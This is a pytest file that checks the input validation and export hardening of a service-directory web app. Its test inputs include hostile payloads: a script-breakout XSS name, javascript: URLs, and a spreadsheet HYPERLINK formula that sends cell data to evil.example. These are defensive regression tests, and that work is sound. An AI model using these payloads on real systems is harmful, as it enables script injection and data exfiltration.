"""Issue 15, items 4 and 6: no script from data, exports safe to open, control characters and lengths
refused at input. Each test fails on the code before the fix (the finding is named in its docstring).
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from xml.etree import ElementTree

import networkx as nx
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from pydantic import ValidationError

from graph.memory_store import MemoryStore
from graph.models import Contact, ContactKind, Organisation, Service
from graph.reference import Reference
from loaders.directory import read_directory
from loaders.export import directory_rows, write_csv_folder, write_workbook
from tests.api.conftest import DEMO, auth, demo_store
from viz.exports import export
from viz.network_map import render_map

SCRIPT_NAME = "X</script><script>window.__pwned=1</script>"
PHONE = "+32 4 000 12 34"


def _problem_422(response: Any) -> str:
    """The problem+json detail and parameters of a 422, as one text to search."""
    assert response.status_code == 422, response.text
    return json.dumps(response.json(), ensure_ascii=False)


def _own_org(client: TestClient) -> dict[str, Any]:
    org: dict[str, Any] = client.get("/v1/organisations/amb-h-1").json()
    return org


def _own_service(client: TestClient) -> dict[str, Any]:
    service: dict[str, Any] = client.get("/v1/services/amb-h-1-svc", headers=auth("editor")).json()
    return service


# --- control characters and lengths at input -------------------------------------------------------


@pytest.mark.parametrize("bad", ["CVFE\x00", "CV\x0bFE", "CVFE\ufffe", "CV\x85FE", "CV\nFE", "CVFE\U0001ffff"])
def test_control_characters_are_refused_in_names_naming_the_field(bad: str) -> None:
    """Finding: `\\u0000`, `\\u000b`, `\\ufffe`… were accepted in names (GraphML then did not parse)."""
    with pytest.raises(ValidationError) as caught:
        Organisation(id="x", name=bad, type="t", sector="s", source="demo")
    error = caught.value.errors()[0]
    assert error["loc"] == ("name",) and "is not allowed" in error["msg"]


def test_multi_line_fields_keep_tabs_and_line_breaks_but_not_other_controls() -> None:
    ok = Service(id="s", organisation_id="o", name="Écoute", hours="lun.\tmar.\r\nmer.", source="demo")
    assert "\n" in ok.hours
    with pytest.raises(ValidationError, match="hours"):
        Service(id="s", organisation_id="o", name="Écoute", hours="lun.\x07", source="demo")


def test_api_refuses_control_characters_with_a_422_naming_the_field(client: TestClient) -> None:
    """Finding: control characters accepted through the API."""
    body = _own_org(client) | {"description": "ok\x00"}
    detail = _problem_422(client.put("/v1/organisations/amb-h-1", json=body, headers=auth("editor")))
    assert "description" in detail and "U+0000" in detail


@pytest.mark.parametrize(
    ("field", "value", "limit"),
    [
        ("hours", "9h-17h " * 128_000, "1000"),
        ("situations", ["partner-violence"] * 20_000, "50"),
        ("name", "n" * 301, "300"),
        ("description", "d" * 4001, "4000"),
        ("contacts", [{"kind": "phone", "value": "04 000 00 00"}] * 21, "20"),
    ],
)
def test_lengths_and_list_sizes_are_bounded_per_field(client: TestClient, field: str, value: Any, limit: str) -> None:
    """Finding: a 900 kB `hours` and 20,000 situations were accepted."""
    body = _own_service(client) | {field: value}
    detail = _problem_422(client.put("/v1/services/amb-h-1-svc", json=body, headers=auth("editor")))
    assert field in detail and limit in detail


def test_loader_locates_a_control_character(tmp_path: Path, reference: Reference) -> None:
    folder = tmp_path / "d"
    write_csv_folder(directory_rows(demo_store(MemoryStore(), reference)), folder)
    text = (folder / "services.csv").read_text(encoding="utf-8")
    (folder / "services.csv").write_text(text.replace("lun.–ven. 9h–17h", "lun.\x0b9h", 1), encoding="utf-8")
    with pytest.raises(Exception) as caught:
        read_directory(folder, reference)
    problem = caught.value.problems[0]  # type: ignore[attr-defined]
    assert problem.sheet == "services" and problem.column == "hours" and "U+000B" in problem.message


# --- unsafe addresses ---------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,<b>", "vbscript:x"])
@pytest.mark.parametrize("kind", [ContactKind.WEBSITE, ContactKind.CHAT, ContactKind.EMAIL])
def test_unsafe_urls_are_refused_in_contacts(url: str, kind: ContactKind) -> None:
    """Finding: `javascript:` websites were accepted and exported."""
    with pytest.raises(ValidationError) as caught:
        Contact(kind=kind, value=url)
    assert caught.value.errors()[0]["loc"] == ("value",)


def test_api_refuses_a_javascript_website_naming_the_field(client: TestClient) -> None:
    org = _own_org(client) | {"website": "javascript:window.__pwned=1//.x"}
    assert "website" in _problem_422(client.put("/v1/organisations/amb-h-1", json=org, headers=auth("editor")))
    contact = {"kind": "website", "value": "javascript:window.__pwned=1"}
    service = _own_service(client) | {"contacts": [contact]}
    detail = _problem_422(client.put("/v1/services/amb-h-1-svc", json=service, headers=auth("editor")))
    assert "contacts.0.value" in detail


# --- exports safe to open ------------------------------------------------------------------------------


def _rows_with(name: str, phone: str) -> dict[str, list[dict[str, str]]]:
    return {
        "organisations": [
            {"id": "x", "name": name, "type": "specialised-ambulatory", "source": "demo", "description": "-"}
        ],
        "services": [{"id": "x-svc", "organisation_id": "x", "name": "Écoute", "phone": phone, "source": "demo"}],
    }


def test_csv_and_xlsx_cells_never_become_formulas(tmp_path: Path) -> None:
    """Finding: `=HYPERLINK(…)` was stored as a formula in the master copy; `+`, `-`, `@` as they are."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    rows = _rows_with(formula, "@SUM(1)")
    write_csv_folder(rows, tmp_path / "csv")
    organisations = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "organisations.csv").read_text("utf-8"))))
    assert organisations[0]["name"] == "'" + formula and organisations[0]["description"] == "'-"
    write_workbook(rows, tmp_path / "a.xlsx")
    ws = load_workbook(tmp_path / "a.xlsx")["organisations"]
    name = ws.cell(row=2, column=2)
    assert (name.value, name.data_type, name.quotePrefix) == (formula, "s", True)
    phone = next(c for c in load_workbook(tmp_path / "a.xlsx")["services"][2] if c.value == "@SUM(1)")
    assert phone.data_type == "s" and phone.quotePrefix


def test_network_csv_zip_neutralises_formulas(reference: Reference) -> None:
    store = demo_store(MemoryStore(), reference)
    snapshot = store.snapshot().copy()
    snapshot.nodes["amb-h-1"]["name"] = "=1+1"
    content, _, _ = export(snapshot, "csv")
    nodes = zipfile.ZipFile(io.BytesIO(content)).read("nodes.csv").decode()
    assert "'=1+1" in nodes and "\n=1+1" not in nodes and ",=1+1" not in nodes


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_a_phone_number_starting_with_plus_survives_export_import_export(
    tmp_path: Path, reference: Reference, suffix: str
) -> None:
    store = demo_store(MemoryStore(), reference)
    service = store.get(Service, "amb-h-1-svc")
    assert service is not None
    contacts = (*service.contacts, Contact(kind=ContactKind.PHONE, value=PHONE))
    store.upsert([service.model_copy(update={"contacts": contacts})])
    first = tmp_path / f"first.{suffix}" if suffix == "xlsx" else tmp_path / "first"
    (write_workbook if suffix == "xlsx" else write_csv_folder)(directory_rows(store), first)
    again = MemoryStore()
    from graph.usecases import import_directory

    import_directory(read_directory(first, reference), again, reference=reference)
    back = again.get(Service, "amb-h-1-svc")
    assert back is not None and PHONE in [c.value for c in back.contacts]
    assert directory_rows(again)["services"] == directory_rows(store)["services"]


def test_exports_never_crash_on_old_data_with_control_characters(tmp_path: Path, reference: Reference) -> None:
    """Finding: GraphML/GEXF did not parse and `relais export -o x.xlsx` crashed with a traceback."""
    snapshot = demo_store(MemoryStore(), reference).snapshot().copy()
    snapshot.nodes["amb-h-1"]["name"] = "Old\x00\x0b\ufffe name & <co>"
    graphml, _, _ = export(snapshot, "graphml")
    assert nx.read_graphml(io.BytesIO(graphml)).nodes["amb-h-1"]["label"] == "Old name & <co>"
    gexf, _, _ = export(snapshot, "gexf")
    ElementTree.fromstring(gexf)
    write_workbook(_rows_with("Old\x00\x0b name", "04 000 00 00"), tmp_path / "old.xlsx")
    assert load_workbook(tmp_path / "old.xlsx")["organisations"].cell(row=2, column=2).value == "Old name"


# --- no script from data ---------------------------------------------------------------------------------


def test_map_page_has_no_script_from_data(reference: Reference) -> None:
    """Finding: the map embedded `json.dumps(nodes)` in an inline script; `</script>` in a name ran."""
    snapshot = demo_store(MemoryStore(), reference).snapshot().copy()
    snapshot.nodes["amb-h-1"]["name"] = SCRIPT_NAME + "\u2028"
    page = render_map(snapshot, asset_url="/static/vis-network.min.js")
    assert "</script><script>window" not in page and "\u2028" not in page
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", page, re.DOTALL)
    assert [attrs for attrs, body in scripts if body.strip()] == [' type="application/json" id="relais-map-data"']
    data = json.loads(next(body for _, body in scripts if body.strip()))
    node = next(n for n in data["nodes"] if n["id"] == "amb-h-1")
    assert node["label"] == SCRIPT_NAME + "\u2028" and "<b>" not in node["title"]


@pytest.mark.parametrize("path", ["/", "/login", "/coordination", "/v1/map", "/v1/report?division=huy"])
def test_no_unsafe_inline_script_in_the_csp_of_any_page(client: TestClient, path: str) -> None:
    """Finding: the CSP allowed `'unsafe-inline'` for scripts."""
    response = client.get(path, headers=auth("coordinator"), follow_redirects=False)
    policy = response.headers["content-security-policy"]
    script_src = next(p for p in policy.split(";") if p.strip().startswith("script-src"))
    assert "unsafe-inline" not in script_src and "unsafe-eval" not in script_src
    if response.status_code == 200:
        assert not re.search(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", response.text)
        assert not re.search(r"\son[a-z]+\s*=", response.text)


def test_map_script_is_served_as_a_file(client: TestClient) -> None:
    response = client.get("/static/relais-map.js")
    assert response.status_code == 200 and "relais-map-data" in response.text


# --- which directory is served ------------------------------------------------------------------------------


def serve(client: TestClient, monkeypatch: pytest.MonkeyPatch, served: SimpleNamespace) -> None:
    """Make the app say it serves `served` (api.bootstrap.Relais.served is a property read from the store)."""
    relais = client.app.state.relais  # type: ignore[attr-defined]
    monkeypatch.setattr(type(relais), "served", property(lambda _: served), raising=False)


@pytest.mark.parametrize(
    ("lang", "warning"),
    [
        ("fr", "Données fictives de démonstration"),
        ("nl", "Fictieve demonstratiegegevens"),
        ("de", "Fiktive Demonstrationsdaten"),
        ("en", "Fictional demonstration data"),
    ],
)
def test_every_page_says_the_demo_is_fictional(
    client: TestClient, monkeypatch: pytest.MonkeyPatch, lang: str, warning: str
) -> None:
    """Issue 15 item 2: the fictional demo is marked on every page, in the page's language."""
    serve(client, monkeypatch, SimpleNamespace(name="démo", fictional=True, store="memory"))
    for path in ("/", "/login", "/coordination", "/v1/map", "/v1/report?division=liege"):
        page = client.get(f"{path}{'&' if '?' in path else '?'}lang={lang}", headers=auth("coordinator")).text
        assert warning in page and "démo" in page, path


def test_a_real_directory_is_named_without_the_warning(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    serve(client, monkeypatch, SimpleNamespace(name="Liège <réel>", fictional=False, store="sqlite"))
    page = client.get("/").text
    assert "Liège &lt;réel&gt;" in page and "Données fictives" not in page


@pytest.mark.parametrize("folder", [DEMO, DEMO.parent.parent / "data" / "liege"])
def test_the_bundled_directories_pass_the_input_rules(folder: Path, reference: Reference) -> None:
    """The demo and the Liège directory are read with the new rules without a single problem."""
    assert len(read_directory(folder, reference).records) > 20


@pytest.mark.parametrize(
    ("kind", "value"),
    [("email", "accueil@exemple.be?cc=autre@exemple.be&body=x"), ("email", "a@b.be,c@d.be")],
)
def test_a_contact_cannot_carry_more_than_its_address(kind: str, value: str) -> None:
    """A mailto: link obeys «?cc=…&body=…»: an e-mail contact is one mailbox."""
    with pytest.raises(ValueError, match="one address"):
        Contact(kind=ContactKind(kind), value=value)


def test_a_name_cannot_read_backwards() -> None:
    """Direction overrides (U+202E…) make a name display as another one."""
    with pytest.raises(ValueError, match="U\\+202E"):
        Organisation(id="x", name="Refuge \u202eeilreV", type="helpline", sector="associative", source="test")
